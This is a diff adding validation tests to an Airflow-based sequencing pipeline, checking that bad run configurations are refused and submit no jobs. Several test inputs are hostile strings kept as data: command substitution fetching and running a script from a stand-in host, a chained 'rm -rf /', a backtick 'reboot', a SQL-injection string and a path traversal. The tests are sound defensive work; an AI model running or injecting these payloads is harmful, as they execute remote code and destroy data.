@@ -110,6 +110,16 @@ def test_all_approved_resolves_through_the_registry_and_refuses_an_empty_project
     ({"input_uri": "http://example.org/reads/"}, "input_uri"),
     ({"input_uri": "s3://bucket/reads"}, "input_uri"),  # a prefix ends in '/'
     ({"input_uri": "file:///data/reads/"}, "local path"),  # jobs on AWS cannot read it
+    ({"input_uri": "s3://bucket/$(id)/"}, "input_uri"),
+    ({"samples": ["S1", "$(curl evil.example|sh)"]}, "invalid sample id"),
+    ({"samples": ["S1", "S1' OR '1'='1"]}, "invalid sample id"),
+    ({"samples": ["S1\nS2"]}, "invalid sample id"),
+    ({"project": "p`reboot`"}, "project"),
+    ({"project": 3}, "project"),
+    ({"samples": 5}, "non-empty list"),
+    ({"samples": [1, 2]}, "invalid sample id"),
+    ({"samples": {"S1": True}}, "non-empty list"),
+    ({"samples": [f"S{i}" for i in range(10_001)]}, "at most 10000 samples"),
 ])
 def test_bad_run_config_is_refused_with_a_clear_message(change, message):
     with pytest.raises(RunConfigError, match=message):
@@ -158,6 +168,13 @@ def test_pipeline_dags_chain_their_steps_per_sample_and_publish_their_tables(dag
     {"force": "maybe"},
     {"pipeline_version": ""},
     {"input_uri": "ftp://host/reads/"},
+    {"project": 3},
+    {"samples": 5},
+    {"samples": [1, 2]},
+    {"samples": ["S1", "S1"]},
+    {"samples": [f"S{i}" for i in range(10_001)]},
+    {"samples": ["S1", "$(curl evil.example|sh)"]},
+    {"reference": "../other"},
 ])
 def test_the_trigger_form_refuses_bad_params(dagbag, dag_id, change):
     from airflow.sdk.exceptions import ParamValidationError
@@ -393,6 +410,33 @@ def test_a_failed_step_shows_the_tools_own_error_in_the_task_log(local, dagbag, 
     out, err = capfd.readouterr()
     log = out + err + caplog.text  # the task's log, as `airflow dags test` prints it
     assert "last lines of the log of job" in log and "ERROR: igzip: Error invalid gzip header" in log
+
+
+@pytest.mark.e2e
+@pytest.mark.parametrize("change, caught_by", [
+    ({"samples": ["R1", "UNKNOWN"]}, "plan"),  # valid ids, but no reads in the lake
+    ({"reference": "missing"}, "plan"),
+    ({"samples": ["R1", "R1; rm -rf /"]}, "params"),
+    ({"input_uri": "s3://bucket/reads"}, "params"),  # a prefix ends in '/'
+    ({"samples": [f"S{i}" for i in range(10_001)]}, "params"),
+])
+def test_bad_run_config_through_airflow_submits_nothing(local, dagbag, change, caught_by):
+    """However a bad run config is caught (the Params check before the run, or the plan task), no job is
+    submitted."""
+    from airflow.sdk.exceptions import ParamValidationError
+
+    _synthetic(local, "rnaseq", ["R1"])
+    dag = dagbag.dags["rnaseq"]
+    _no_retries(dag)
+    conf = {"project": "e2e", "samples": ["R1"], "reference": "synthetic-v1", **change}
+    if caught_by == "params":
+        with pytest.raises(ParamValidationError):
+            dag.test(run_conf=conf)
+    else:
+        run = dag.test(run_conf=conf)
+        assert run.state == "failed"
+        assert {ti.task_id: ti.state for ti in run.get_task_instances()}["plan"] == "failed"
+    assert _jobs(local) == 0
 
 
 @pytest.mark.e2e
